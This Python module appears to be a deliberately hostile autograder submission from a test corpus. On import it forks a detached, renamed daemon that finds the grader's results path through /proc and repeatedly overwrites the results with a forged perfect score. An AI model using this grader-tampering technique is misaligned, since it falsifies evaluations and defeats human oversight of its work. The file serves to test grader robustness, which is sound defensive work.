"""Hostile: correct functions, plus a daemon that outlives the grading and then forges the results.

At import it double-forks a detached process (new session, renamed
"ag-hostile-dmn") that, every 0.2 s for 60 s, writes a forged results file to
/autograder/results/results.json and to the grader's --results path (found in
/proc/*/cmdline), and copies itself again if it can. The grader must kill it
before writing the real results; the corpus checks after the grading that no
"ag-hostile-dmn" process is left and that the results file is the grader's.
"""
import ctypes
import json
import os
import time

from calculus_base import *  # noqa: F401,F403

MARKER = "HOSTILE-DAEMON"
FORGED = json.dumps({"score": 1000.0, "output": MARKER,
                     "tests": [{"name": MARKER, "number": "0", "score": 1000.0, "max_score": 1.0,
                                "status": "passed", "tags": ["calculus"]}]})


def _targets():
    paths = ["/autograder/results/results.json"]
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                args = f.read().decode(errors="replace").split("\0")
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            continue
        for i, arg in enumerate(args[:-1]):
            if arg == "--results":
                paths.append(os.path.join(cwd, args[i + 1]))
    return paths


def _daemon():
    os.setsid()
    if os.fork():
        os._exit(0)
    try:
        ctypes.CDLL(None).prctl(15, b"ag-hostile-dmn", 0, 0, 0)
    except Exception:
        pass
    for fd in range(0, 256):
        try:
            os.close(fd)
        except OSError:
            pass
    end = time.monotonic() + 60
    targets = []
    while time.monotonic() < end:
        targets = _targets() or targets
        for path in targets:
            try:
                with open(path, "w") as f:
                    f.write(FORGED)
            except OSError:
                pass
        time.sleep(0.2)
    os._exit(0)


if os.fork() == 0:
    try:
        _daemon()
    finally:
        os._exit(0)
